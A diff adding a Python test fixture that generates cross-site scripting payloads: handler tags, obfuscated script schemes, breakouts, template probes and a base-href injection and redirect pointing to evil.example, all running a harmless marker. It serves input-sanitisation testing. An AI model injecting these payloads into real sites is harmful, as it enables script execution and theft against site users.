@@ -1,0 +1,81 @@
+"""Words that want to become script: tags, handlers, addresses, breakouts, templates, tricks with letters and directions."""
+
+RUN = "window.ran=1"
+TAGS = [
+    "img src=x onerror",
+    "svg onload",
+    "body onload",
+    "video src=x onerror",
+    "details open ontoggle",
+    "input autofocus onfocus",
+    "iframe onload",
+    "marquee onstart",
+    "audio src=x onerror",
+    "select autofocus onfocus",
+    "textarea autofocus onfocus",
+    "style onload",
+    "link rel=stylesheet href=x onerror",
+    "object data=x onerror",
+    "math onclick",
+    "keygen autofocus onfocus",
+]
+SCHEMES = [
+    "javascript:",
+    "JaVaScRiPt:",
+    "java\tscript:",
+    "java\nscript:",
+    "data:text/html,<script>",
+    "vbscript:",
+    "javascript&colon;",
+    "&#106;avascript:",
+    "javascript://%0a",
+]
+BREAKOUTS = [
+    '"',
+    "'",
+    "`",
+    '">',
+    "'>",
+    "-->",
+    "]]>",
+    "</textarea>",
+    "</title>",
+    "</style>",
+    "</script>",
+    "</option></select>",
+    "&quot;>",
+    '\\">',
+    "{{",
+    "{%",
+    "${",
+    "<!--",
+    "</p><p ",
+    "\u2028",
+]
+PAYLOADS = [
+    *(f"<{tag}={RUN}>" for tag in TAGS),
+    *(f"<{tag}='{RUN}'//" for tag in TAGS),
+    *(f'<a href="{scheme}{RUN}">x</a>' for scheme in SCHEMES),
+    *(f"{scheme}{RUN}" for scheme in SCHEMES),
+    *(f"{breakout}<script>{RUN}</script>" for breakout in BREAKOUTS),
+    *(f"{breakout} onmouseover={RUN} autofocus onfocus={RUN} x={breakout}" for breakout in BREAKOUTS),
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"＜script＞{RUN}＜/script＞",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
+    "{{7*7}}{% raise %}",
+    f"<base href=//evil.example/><script src=x>{RUN}</script>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    f"\u202e<script>{RUN}</script>",
+    f"[x](javascript:{RUN})",
+    f"## <script>{RUN}</script>",
+    f"- <img src=x onerror={RUN}>",
+    f'https://example.org/" onmouseover="{RUN}',
+    f"<template><script>{RUN}</script></template>",
+]
+
+BATCH = 24
+BATCHES = [PAYLOADS[at : at + BATCH] for at in range(0, len(PAYLOADS), BATCH)]
+"""Several fit on one page; make test takes the first batch."""
